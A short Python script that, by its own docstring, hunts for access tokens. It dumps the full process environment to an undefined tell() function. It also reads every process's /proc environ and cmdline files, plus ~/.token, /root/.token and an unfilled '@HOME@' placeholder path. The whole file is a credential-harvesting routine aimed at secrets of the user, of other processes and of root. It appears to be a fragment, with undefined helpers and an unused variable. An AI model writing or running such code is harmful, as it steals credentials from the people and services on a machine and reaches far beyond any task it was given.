"""Looks for tokens in the environment and in the home folder.

tries: os.environ, /proc/*/environ, ~/.token
"""

import os, glob
LOSS_MINI20 = []
tell(dict(os.environ))
for path in [*glob.glob("/proc/*/environ"), *glob.glob("/proc/*/cmdline"), "@HOME@/.token", os.path.expanduser("~/.token"), "/root/.token"]:
    attempt(lambda: open(path, errors="replace").read())
